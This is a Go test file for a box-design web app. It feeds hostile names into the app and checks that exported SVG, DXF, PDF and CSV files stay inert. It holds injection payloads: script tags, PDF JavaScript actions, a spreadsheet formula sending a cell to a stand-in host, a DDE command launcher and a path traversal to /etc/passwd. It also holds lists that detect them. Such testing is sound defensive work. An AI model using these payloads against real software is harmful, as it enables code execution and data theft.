package workspace_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"maps"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"brevium/core/cupboard"
	"brevium/core/drawer"
	"brevium/core/measure"
	"brevium/core/paper"
	"brevium/core/sample"
	"brevium/store/jobbook"
	"brevium/web/webtest"
)

// hostileTexts are names, labels and notes that mean something to a format which they are
// written into.
var hostileTexts = map[string]string{
	"markup":        `</text></svg><script>alert(1)</script><svg onload="alert(2)">&xxe;`,
	"a drawing":     "0\r\nENDSEC\r\n0\r\nEOF\r\n999\r\nover",
	"a document":    `) Tj ET endstream endobj << /OpenAction << /S /JavaScript >> >> (`,
	"a calculation": `=HYPERLINK("http://elsewhere.example/?"&A1,"press")`,
	"a command":     "+cmd|' /C calc'!A0",
	"an at":         "@SUM(1+1)*cmd",
	"a tab":         "\t=1+1",
	"a path":        "../../../etc/passwd\x00.svg",
	"another way":   "\u202egnp.exe \u2028 \u0000 \ufeff",
	"braces":        "{{.}} {price} %s %n %d ${7*7}",
}

// A box, its card, its labels, its recipe, a job, paper and supplies that are called so come out
// of every file as text: what other programs read has no script, no section, no formula more
// than that of a box with a plain name.
func TestHostileTextInFiles(t *testing.T) {
	t.Parallel()
	plain := filesOf(t, "Jars")
	for n, name := range slices.Sorted(maps.Keys(hostileTexts)) {
		if !sample.Takes(t, n) {
			continue
		}
		text := hostileTexts[name]
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			for file, body := range filesOf(t, text) {
				if name := filepath.Base(file); strings.ContainsAny(name, "\x00\r\n\\:*\"<>|") || strings.Contains(file, "..") {
					t.Errorf("a file is called %q", file)
				}
				switch {
				case strings.HasSuffix(file, ".svg"):
					svgIsDrawing(t, file, body)
				case strings.HasSuffix(file, ".dxf"):
					dxfIsWhole(t, file, body)
				case strings.HasSuffix(file, ".pdf"):
					pdfIsDocument(t, file, body, plain[file])
				case strings.HasSuffix(file, ".csv"):
					csvIsInert(t, file, body)
				}
			}
		})
	}
	if len(plain) < 8 {
		t.Errorf("only %d files were looked at", len(plain))
	}
}

// filesOf are all files that a box of such a name, and what is about it, can be had as.
func filesOf(t *testing.T, text string) map[string][]byte {
	t.Helper()
	x := webtest.NewTable(t)
	x.JarBox()
	at := "/boxes/1/"
	x.Post(at+"rename", "name", text)
	x.Post(at+"box", "card.name", text)
	x.Post(at+"dressing", "labels.add", "label")
	x.Post(at+"dressing", "labels[0].text", text, "labels[0].name", text)
	x.Post("/boxes/1/made", "felt0", "loose", "remember", text)
	x.Post("/jobs", "copies.1", "2", "name", text)
	sheet, _ := paper.SheetNamed("A4")
	if err := x.Store.Of(t.Context()).AddLots(t.Context(), []drawer.Lot{{Card: paper.Card{Name: text, GSM: 240, Thickness: 300 * measure.Micrometre, Direction: paper.NoDirection}, Sheet: sheet.Name, Width: sheet.Width, Height: sheet.Height, Count: 2, From: text}}); err != nil {
		t.Fatal(err)
	}
	if err := x.Store.Of(t.Context()).SetGoods(t.Context(), []cupboard.Good{{Kind: cupboard.Ribbon, Name: text, Amount: 1}}); err != nil && !strings.Contains(err.Error(), "letters") {
		t.Fatal(err)
	}
	out := map[string][]byte{}
	for path, ending := range map[string]string{
		at + "sheet.pdf": ".pdf", at + "sheet.pdf?what=cuts": ".pdf",
		at + "export?to=svg": ".zip", at + "export?to=dxf": ".zip", at + "export?to=dxf&packed=1": ".zip", at + "export?to=csv": ".csv", at + "export?to=pdf": ".zip", at + "sheet.pdf?what=scores": ".pdf",
		"/drawer.csv": ".csv", "/cupboard.csv": ".csv", "/logbook.csv": ".csv", "/data/everything.zip": ".zip",
	} {
		code, body, _ := x.Get(path)
		if code == http.StatusNotFound {
			continue
		}
		if code != http.StatusOK {
			t.Errorf("%s: %d", path, code)
			continue
		}
		if ending != ".zip" {
			out[path+ending] = []byte(body)
			continue
		}
		z, err := zip.NewReader(strings.NewReader(body), int64(len(body)))
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		for _, f := range z.File {
			r, err := f.Open()
			if err != nil {
				t.Fatal(err)
			}
			text, err := io.ReadAll(r)
			if err != nil {
				t.Fatal(err)
			}
			out[f.Name] = text
		}
	}
	return out
}

// svgIsDrawing reads a drawing as XML, and finds nothing in it that runs or is fetched.
func svgIsDrawing(t *testing.T, file string, body []byte) {
	t.Helper()
	d := xml.NewDecoder(bytes.NewReader(body))
	for {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			return
		}
		if err != nil {
			t.Errorf("%s is no XML: %v", file, err)
			return
		}
		start, is := token.(xml.StartElement)
		if !is {
			continue
		}
		if n := strings.ToLower(start.Name.Local); n == "script" || n == "foreignobject" || n == "iframe" {
			t.Errorf("%s has a %s in it", file, n)
		}
		for _, a := range start.Attr {
			name, value := strings.ToLower(a.Name.Local), strings.ToLower(a.Value)
			if strings.HasPrefix(name, "on") || name == "href" && !strings.HasPrefix(value, "#") && !strings.HasPrefix(value, "data:image/") && !strings.HasPrefix(value, "../papers/") {
				t.Errorf("%s has %s=%q", file, name, value)
			}
		}
	}
}

// dxfIsWhole reads a drawing as pairs of a number and a value: its sections open and close, and
// it ends once, at its end.
func dxfIsWhole(t *testing.T, file string, body []byte) {
	t.Helper()
	lines := strings.Split(strings.TrimRight(strings.ReplaceAll(string(body), "\r\n", "\n"), "\n"), "\n")
	if len(lines)%2 != 0 {
		t.Errorf("%s has %d lines", file, len(lines))
		return
	}
	open := 0
	for i := 0; i < len(lines); i += 2 {
		if !regexp.MustCompile(`^\s*\d{1,4}$`).MatchString(lines[i]) {
			t.Errorf("%s: line %d is %q", file, i+1, lines[i])
			return
		}
		if strings.TrimSpace(lines[i]) != "0" {
			continue
		}
		switch strings.TrimSpace(lines[i+1]) {
		case "SECTION":
			open++
		case "ENDSEC":
			open--
		case "EOF":
			if i+2 != len(lines) || open != 0 {
				t.Errorf("%s ends at line %d of %d, with %d sections open", file, i+1, len(lines), open)
			}
		}
		if open < 0 || open > 1 {
			t.Errorf("%s: %d sections are open at line %d", file, open, i+1)
		}
	}
}

// pdfIsDocument lets another program read a document, and finds nothing in it that runs.
func pdfIsDocument(t *testing.T, file string, body, plain []byte) {
	t.Helper()
	name := filepath.Join(t.TempDir(), "f.pdf")
	if err := os.WriteFile(name, body, 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command("pdfinfo", "-js", name).CombinedOutput()
	if err != nil || len(bytes.TrimSpace(out)) > 0 {
		t.Errorf("%s: a reader says %s %v", file, out, err)
	}
	if out, err := exec.Command("pdfinfo", name).CombinedOutput(); err != nil || !strings.Contains(string(out), "JavaScript:      no") || strings.Contains(string(out), "Syntax Error") {
		t.Errorf("%s: a reader says %s %v", file, out, err)
	}
	for _, runs := range []string{"/OpenAction", "/JavaScript", "/Launch", "/EmbeddedFile", "/AA ", "/URI"} {
		if got, want := namesIn(body, runs), namesIn(plain, runs); got > want {
			t.Errorf("%s has %d of %s in it; one with a plain name has %d", file, got, runs, want)
		}
	}
}

// namesIn counts a name in a document, outside of what is packed and of texts in brackets.
func namesIn(body []byte, name string) (n int) {
	outside := regexp.MustCompile(`(?s)stream\r?\n.*?endstream`).ReplaceAll(body, nil)
	for at := 0; ; at++ {
		next := bytes.Index(outside[at:], []byte(name))
		if next < 0 {
			return n
		}
		if at += next; !inString(outside, at) {
			n++
		}
	}
}

// inString reports whether a place in a document lies within a text in brackets.
func inString(body []byte, at int) bool {
	depth := 0
	for i := max(0, bytes.LastIndex(body[:at], []byte(" obj"))); i < at; i++ {
		switch body[i] {
		case '\\':
			i++
		case '(':
			depth++
		case ')':
			depth--
		}
	}
	return depth > 0
}

// csvIsInert reads a list as a spreadsheet does: no cell is calculated.
func csvIsInert(t *testing.T, file string, body []byte) {
	t.Helper()
	all, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Errorf("%s: %v", file, err)
	}
	number := regexp.MustCompile(`^[-+]?[\d.]+( mm)?$`)
	for _, row := range all {
		for _, cell := range row {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n") && !number.MatchString(cell) {
				t.Errorf("%s: the cell %q is calculated", file, cell)
			}
		}
	}
}

// What is called so is still called so where it is changed, and comes back from a zip the same.
func TestHostileTextComesBack(t *testing.T) {
	t.Parallel()
	for name, text := range hostileTexts {
		x, y := webtest.NewTable(t), webtest.NewTable(t)
		x.JarBox()
		x.Post("/boxes/1/rename", "name", text)
		want := x.Box(1).Name
		if _, err := x.Store.Of(t.Context()).AddJob(t.Context(), jobbook.Job{Name: text, Items: []jobbook.JobItem{{Box: 1, Copies: 1}}}); err != nil {
			t.Fatal(err)
		}
		_, z, _ := x.Get("/data/everything.zip")
		if code, body, _ := y.Send("/data/bring", []byte(z)); code != http.StatusSeeOther {
			t.Errorf("%s: brought in with %d, %.300s", name, code, body)
			continue
		}
		if got := y.Box(1).Name; got != want {
			t.Errorf("%s: %q comes back as %q", name, want, got)
		}
		jobs, err := y.Store.Of(t.Context()).Jobs(t.Context())
		if err != nil || len(jobs) != 1 || jobs[0].Name != text {
			t.Errorf("%s: the job comes back as %v, %v", name, fmt.Sprint(jobs), err)
		}
	}
}
